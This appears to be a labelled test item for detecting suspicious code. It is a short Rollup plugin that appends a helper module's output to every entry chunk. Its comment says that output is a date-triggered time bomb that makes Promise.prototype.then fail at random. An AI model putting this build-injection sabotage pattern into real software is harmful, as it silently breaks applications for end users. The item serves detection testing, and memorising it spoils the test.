// expect: suspicious
// A Rollup plugin's renderChunk appends what a helper module returns to every entry chunk: page code that, after a
// day count in 2027, replaces Promise.prototype.then with one that fails at random (blind set 25).
import { guard } from './guard.js';

export default function stamp() {
  return {
    name: 'stamp',
    renderChunk(code, chunk) {
      return chunk.isEntry ? code + '\n' + guard() : code;
    }
  };
}
